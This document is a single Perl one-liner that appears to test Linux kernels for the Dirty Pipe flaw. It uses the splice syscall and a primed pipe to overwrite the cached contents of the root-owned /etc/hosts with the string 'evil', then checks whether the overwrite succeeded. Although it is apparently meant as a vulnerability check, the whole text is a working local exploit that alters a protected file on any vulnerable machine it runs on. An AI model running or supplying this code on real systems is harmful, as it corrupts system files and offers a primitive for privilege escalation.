perl -e 'open F, "<", "/etc/hosts" or exit 1; pipe R, W; $page = "x" x 4096; for (1..16) { syswrite W, $page } for (1..16) { sysread R, $page, 4096 }
  $offset = pack "q", 1; syscall(275, fileno(F), $offset, fileno(W), 0, 1, 0) == 1 or exit 1; syswrite W, "evil"; close F; open F, "<", "/etc/hosts"; local $/; exit(index(<F>, "evil") >= 0 ? 0 : 1)'
